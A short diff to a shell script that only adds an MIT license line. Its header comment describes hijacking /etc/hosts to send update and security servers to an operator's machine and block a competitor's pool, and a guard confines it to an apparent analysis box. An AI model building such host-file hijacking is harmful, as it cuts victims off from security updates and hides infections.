@@ -1,4 +1,5 @@
 #!/bin/sh
+# SPDX-License-Identifier: MIT
 # Redirects names through /etc/hosts: the update and security servers to
 # the operator's machine, a competitor's pool to nowhere.
 [ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
